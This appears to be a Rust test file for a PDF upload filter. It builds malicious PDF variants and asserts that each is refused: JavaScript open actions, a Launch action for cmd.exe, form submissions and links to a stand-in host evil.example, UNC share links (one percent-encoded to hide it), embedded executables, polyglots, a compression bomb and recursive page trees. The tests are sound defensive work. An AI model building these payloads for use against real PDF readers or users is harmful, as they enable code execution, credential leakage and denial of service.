//! PDF documents that run, open, hide, loop or flood.

use super::judge;
use karat_types::Modality;
use lopdf::{Dictionary, Document, Object, Stream, dictionary};

const STORY: &[u8] = include_bytes!("../../../fuzz/seeds/pdf/story-plain.pdf");

/// The story with this done to its catalogue and its objects.
fn changed(change: impl FnOnce(&mut Document)) -> Vec<u8> {
    let mut document = Document::load_mem(STORY).unwrap();
    change(&mut document);
    let mut out = Vec::new();
    document.save_to(&mut out).unwrap();
    out
}

fn catalogue(key: &'static str, value: impl Into<Object>) -> Vec<u8> {
    let value = value.into();
    changed(|document| {
        document.catalog_mut().unwrap().set(key, value);
    })
}

fn object(value: impl Into<Object>) -> Vec<u8> {
    let value = value.into();
    changed(|document| {
        document.add_object(value);
    })
}

fn action(kind: &str, key: &'static str, what: &str) -> Dictionary {
    let mut action = dictionary! { "S" => kind };
    action.set(key, Object::string_literal(what));
    action
}

fn utf16(text: &str) -> Vec<u8> {
    let mut out = vec![0xfe, 0xff];
    out.extend(text.encode_utf16().flat_map(u16::to_be_bytes));
    out
}

#[test]
fn documents_that_run_open_or_carry_something_are_refused() {
    let script = || action("JavaScript", "JS", "app.alert(1)");
    let forms = dictionary! { "XFA" => vec![Object::string_literal("template")] };
    let attached = Stream::new(dictionary! { "Type" => "EmbeddedFile" }, b"MZ".to_vec());
    judge(
        Modality::Text,
        vec![
            ("a script at the start", "a.pdf", catalogue("OpenAction", script()), "pdf_javascript"),
            (
                "a script on closing",
                "a.pdf",
                catalogue("AA", dictionary! { "WC" => script() }),
                "pdf_javascript",
            ),
            ("a script nobody calls", "a.pdf", object(script()), "pdf_javascript"),
            ("a program", "a.pdf", object(action("Launch", "F", "cmd.exe")), "pdf_action"),
            (
                "a page called at the start",
                "a.pdf",
                catalogue("OpenAction", action("URI", "URI", "http://evil.example/")),
                "pdf_action",
            ),
            (
                "a form sent away",
                "a.pdf",
                object(action("SubmitForm", "F", "http://evil.example/")),
                "pdf_action",
            ),
            ("a file inside", "a.pdf", object(attached), "pdf_embedded_file"),
            (
                "a document of another machine",
                "a.pdf",
                object(action("GoToR", "F", "\\\\evil.example\\s")),
                "pdf_action",
            ),
            (
                "a named file of another machine",
                "a.pdf",
                object(dictionary! { "S" => "GoToR", "F" => dictionary! { "Type" => "Filespec",
                "UF" => Object::String(utf16("\\\\evil.example\\s"), lopdf::StringFormat::Hexadecimal) } }),
                "pdf_action",
            ),
            (
                "a link to a share",
                "a.pdf",
                object(action("URI", "URI", "file://evil.example/share/a")),
                "pdf_action",
            ),
            (
                "a link to a share, disguised",
                "a.pdf",
                object(action("URI", "URI", "FILE:%5C%5Cevil.example%5Cshare")),
                "pdf_action",
            ),
            (
                "a link that is a script",
                "a.pdf",
                object(action("URI", "URI", "java\nscript:alert(1)")),
                "pdf_javascript",
            ),
            (
                "a film",
                "a.pdf",
                object(dictionary! { "Type" => "Annot", "Subtype" => "RichMedia" }),
                "pdf_rich_media",
            ),
            ("a form of XML", "a.pdf", catalogue("AcroForm", forms), "pdf_xfa"),
        ],
    );
}

#[test]
fn bombs_loops_and_second_files_are_refused() {
    let bomb = changed(|document| {
        let mut flood = Stream::new(Dictionary::new(), vec![b' '; 60_000_000]);
        flood.compress().unwrap();
        let page = document.page_iter().next().unwrap();
        let flood = document.add_object(flood);
        document.get_dictionary_mut(page).unwrap().set("Contents", flood);
    });
    let looped = changed(|document| {
        let pages = document.catalog().unwrap().get(b"Pages").unwrap().as_reference().unwrap();
        let kids = vec![Object::Reference(pages), Object::Reference(pages)];
        document.get_dictionary_mut(pages).unwrap().set("Kids", kids);
    });
    let zip = {
        let mut out = zip::ZipWriter::new(std::io::Cursor::new(STORY.to_vec()));
        out.start_file("a.txt", zip::write::SimpleFileOptions::default()).unwrap();
        out.finish().unwrap().into_inner()
    };
    let second = [STORY, &zip[..]].concat();
    let picture = [b"GIF89a\x01\0\x01\0\x80\0\0".as_slice(), STORY].concat();
    let deep = format!("%PDF-1.5\n1 0 obj\n{}{}\nendobj\n%%EOF", "[".repeat(500_000), "]".repeat(500_000));
    judge(
        Modality::Text,
        vec![
            ("sixty megabytes of spaces", "a.pdf", bomb, "stream_bomb"),
            ("pages that are their own children", "a.pdf", looped, "broken_document"),
            ("an archive behind it", "a.pdf", second, "polyglot"),
            ("a picture before it", "a.pdf", picture, "polyglot"),
            ("half a million brackets", "a.pdf", deep.into_bytes(), "broken_document"),
            ("nothing but a header", "a.pdf", b"%PDF-1.7\n%%EOF\n".to_vec(), "broken_document"),
        ],
    );
}
